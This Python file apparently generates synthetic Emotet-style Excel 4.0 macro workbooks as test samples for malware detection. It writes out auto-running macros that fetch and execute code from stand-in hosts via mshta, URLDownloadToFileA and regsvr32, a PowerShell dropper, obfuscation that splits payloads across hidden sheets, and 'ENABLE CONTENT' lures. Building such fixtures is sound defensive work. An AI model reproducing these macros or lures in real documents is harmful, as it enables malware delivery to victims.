"""Emotet's workbooks of Excel 4.0 macros, 2021-12 to 2022-11, in each shell."""

from __future__ import annotations

import string
from random import Random

from support.carriers.sample import EMOTET, Sample
from support.carriers.word import file_name
from support.document_decoys import addresses
from support.draws import letters
from support.office.biff_writer import workbook_stream
from support.office.ole_writer import compound_file, property_streams
from support.office.xlm_writer import BookPlan, NamePlan, SheetPlan, xml_parts, zipped
from support.office.xlsb_writer import xlsb_parts

_KINDS = ("sheet-macro",)
Cells = dict[str, str | float]


def file(draw: Random, plan: BookPlan, shell: str, family: str | None = EMOTET, **told: object) -> Sample:
    """*plan* in *shell*; *told* are the properties of a binary."""
    if shell == "xls":
        data = compound_file({"Workbook": workbook_stream(plan), **property_streams(**told)})  # type: ignore[arg-type]
    else:
        data = zipped(xml_parts(plan) if shell == "xlsm" else xlsb_parts(plan))
    return Sample(file_name(draw, shell), data, family, _KINDS if family else ())


def sheet_name(draw: Random) -> str:
    return letters(draw, 3, 7, string.ascii_uppercase)


def book(draw: Random, macro: Cells, start: str, names: tuple[NamePlan, ...] = (), others: tuple[SheetPlan, ...] = ()) -> BookPlan:
    """A visible sheet with a word to the reader, and the macros out of sight."""
    name = sheet_name(draw)
    shown: Cells = {"B4": "THIS DOCUMENT IS PROTECTED. Press ENABLE CONTENT"}
    state = draw.choice(("hidden", "very-hidden"))
    placed = tuple(
        NamePlan(one.name, one.text.replace("@", name), one.sheet.replace("@", name), one.hidden, one.built_in) for one in names
    )
    own = draw.random() < 0.8
    begin = NamePlan(
        "Auto_Open" if own else draw.choice(("auto_open", f"Auto_Open{draw.randint(1, 99)}")), f"{name}!{start}", built_in=own
    )
    return BookPlan(
        sheets=(SheetPlan("Sheet", shown, "worksheet"), *others, SheetPlan(name, macro, "macrosheet", state)),
        names=(begin, *placed),
    )


def mshta(draw: Random) -> Sample:
    """2021-12 to 2022-01: cmd with carets, mshta of a page on a bare number, in a defined name or in a cell."""
    path = f"{letters(draw, 2, 5)}/{letters(draw, 2, 4)}/{draw.choice(('fe', 'fer', 'se'))}{draw.randint(0, 9)}.html"
    last = draw.randint(1, 254)
    host = draw.choice((f"192.0.2.{last}", f"0xc00002{last:02x}", f"0300.0000.0002.{last:04o}", str(0xC0000200 + last)))
    plain = f"mshta http://{host}/{path}"
    command = f"cmd /c {'^'.join(plain)}"
    variable = letters(draw, 4, 6, string.ascii_uppercase)
    way = draw.random()
    if way < 0.2:
        store: Cells = {}
        joined = _strewn(draw, command, {"Tab1": store})
        plan = book(
            draw, {"J1": f"=EXEC({joined})", "J2": "=HALT()"}, "$J$1", (), (SheetPlan("Tab1", store, "worksheet", "hidden"),)
        )
    elif way < 0.7:
        names = (NamePlan(variable, f'"{command}"', "@", hidden=True),)
        plan = book(draw, {"J1": f"=EXEC({variable})", "J2": "=HALT()"}, "$J$1", names)
    else:
        plan = book(draw, {"J1": f'=EXEC("{command}")', "J2": "=HALT()"}, "$J$1")
    return file(draw, plan, draw.choice(("xls", "xlsm")))


def scripts(draw: Random) -> Sample:
    """2022-02: a VBScript and a batch file in ProgramData, the first started."""
    vbs, bat = (f"C:\\ProgramData\\{letters(draw, 6, 12)}" for _ in range(2))
    macro: Cells = {
        "A1": f'=FOPEN("{vbs}.vbs",3)',
        "A2": '=FWRITELN(A1,"Set w = CreateObject(""WScript.Shell"")")',
        "A3": f'=FWRITELN(A1,"w.Run ""{bat}.bat"",0")',
        "A4": "=FCLOSE(A1)",
        "A5": f'=FOPEN("{bat}.bat",3)',
        "A6": f'=FWRITELN(A5,"start /B powershell -enc {letters(draw, 40, 60)}")',
        "A7": "=FCLOSE(A5)",
        "A8": f'=EXEC("{draw.choice(("wscript", "C:/Windows/System32/wscript.exe"))} {vbs}.vbs")',
        "A9": "=RETURN()",
    }
    return file(draw, book(draw, macro, "$A$1"), draw.choice(("xls", "xlsm", "xlsb")))


def listed(
    draw: Random, urls: list[str], stem: str, end: str, *, loader: str = "regsvr32.exe /S ", folder: str = "..\\"
) -> BookPlan:
    """Each address is tried if the one before gave nothing; then the loader. Addresses whole, in pieces, or elsewhere."""
    form = draw.choice(("plain", "joined", "cells"))
    store: Cells = {}
    macro: Cells = {}
    variable = letters(draw, 4, 5, string.ascii_uppercase)
    column = draw.choice("DEFG")
    row = draw.randint(1, 9)
    first = f"${column}${row}"
    for number, url in enumerate(urls):
        argument = f'"{url}"'
        if form == "joined":
            cut = draw.randint(6, len(url) - 4)
            argument = f'"{url[:cut]}"&"{url[cut:]}"'
        elif form == "cells":
            store[f"B{number + 3}"] = url
            argument = f"Sheet2!$B${number + 3}"
        call = f'CALL("urlmon","URLDownloadToFileA","JJCCBB",0,{argument},"{folder}{stem}{number}.{end}",0,0)'
        macro[f"{column}{row}"] = f"={call}" if number == 0 else f"=IF({variable}<0,{call})"
        row += draw.randint(1, 2)
        if draw.random() < 0.3:
            macro[f"{column}{row}"] = f'=EXEC("C:\\Windows\\SysWow64\\{loader}{folder}{stem}{number}.{end}")'
            row += 1
    macro[f"{column}{row}"] = f"=IF({variable}<0,CLOSE(0),)"
    macro[f"{column}{row + 1}"] = f'=EXEC("C:\\Windows\\SysWow64\\{loader}{folder}{stem}0.{end}")'
    macro[f"{column}{row + 2}"] = "=RETURN()"
    others = (SheetPlan("Sheet2", store, "worksheet", "hidden"),) if store else ()
    return book(draw, macro, first, (NamePlan(variable, f"@!{first}"),), others)


def downloads(draw: Random) -> Sample:
    """2022-02 to 2022-07."""
    stem = letters(draw, 2, 6)
    plan = listed(draw, addresses(draw, draw.randint(3, 7)), stem, draw.choice(("ocx", "ocx", "dll")))
    return file(draw, plan, draw.choice(("xls", "xls", "xlsm", "xlsb")))


def _strewn(draw: Random, text: str, sheets: dict[str, Cells]) -> str:
    """*text* as a formula that joins pieces out of cells of *sheets*."""
    parts, at = [], 0
    while at < len(text):
        step = draw.randint(3, 30)
        name = draw.choice(tuple(sheets))
        cell = f"{draw.choice('BCDEFGHIJK')}{draw.randint(2, 400)}"
        while cell in sheets[name]:
            cell = f"{draw.choice('BCDEFGHIJK')}{draw.randint(2, 400)}"
        # Text beginning with "=" would be a formula of its own there.
        sheets[name][cell] = text[at : at + step]
        parts.append(f"{name}!${cell[0]}${cell[1:]}")
        at += step
    return "&".join(parts)


def written(draw: Random) -> Sample:
    """2022-02 on: FORMULA joins the calls out of pieces in hidden sheets and writes them below itself."""
    stem, variable, target = letters(draw, 2, 6), letters(draw, 4, 5, string.ascii_uppercase), draw.choice("EFG")
    stores: dict[str, Cells] = {f"{letters(draw, 2, 3).capitalize()}{number}": {} for number in range(draw.randint(2, 3))}
    calls = []
    for number, url in enumerate(addresses(draw, draw.randint(3, 7))):
        call = f'CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"{url}","..\\{stem}{number}.ocx",0,0)'
        calls.append(f"={call}" if number == 0 else f"=IF({variable}<0,{call})")
    calls += [f"=IF({variable}<0,CLOSE(0),)", f'=EXEC("C:\\Windows\\SysWow64\\regsvr32.exe /S ..\\{stem}0.ocx")', "=RETURN()"]
    macro: Cells = {}
    for row, call in enumerate(calls, 1):
        macro[f"{target}{row}"] = f'=FORMULA("="&{_strewn(draw, call[1:], stores)},{target}{row + 40})'
    macro[f"{target}{len(calls) + 1}"] = f"=GOTO({target}41)"
    others = tuple(SheetPlan(name, cells, "worksheet", "very-hidden") for name, cells in stores.items())
    plan = book(draw, macro, f"${target}$1", (NamePlan(variable, f"@!${target}$41"),), others)
    return file(draw, plan, draw.choice(("xls", "xlsm", "xlsb")))


def own_folder(draw: Random) -> Sample:
    """The variant that makes a folder for it first."""
    name = f"C:\\{letters(draw, 4, 4).capitalize()}"
    plan = listed(draw, addresses(draw, draw.randint(3, 6)), letters(draw, 2, 5), "ocx", folder=f"{name}\\")
    macro = plan.sheets[-1]
    cells = {**macro.cells, "A1": f'=CALL("Kernel32","CreateDirectoryA","JCJ","{name}",0)'}
    plan = BookPlan((*plan.sheets[:-1], SheetPlan(macro.name, cells, macro.form, macro.state)), plan.names)
    return file(draw, plan, draw.choice(("xls", "xlsm")))


_TEMPLATES = (
    "RELAUNCH REQUIRED In accordance with the requirements of your security policy, to display the contents of the document, "
    "copy the file to the following folder and run it again: for Microsoft Office 2013 x32 and earlier - "
    "C:\\Program Files\\Microsoft Office (x86)\\Templates; for later - C:\\Program Files\\Microsoft Office\\root\\Templates"
)


def templates(draw: Random) -> Sample:
    """2022-11: the reader is to copy it to the templates; a library with an extension of its own."""
    end = draw.choice(("ooccxx", "ooocccxxx"))
    plan = listed(draw, addresses(draw, draw.randint(3, 5)), f"e{letters(draw, 2, 2)}", end)
    first, *rest = plan.sheets
    plan = BookPlan((SheetPlan(first.name, {"C8": _TEMPLATES}, first.form), *rest), plan.names)
    return file(draw, plan, "xls", author="gydar", last_saved_by=draw.choice(("gydar", "Gydar")))
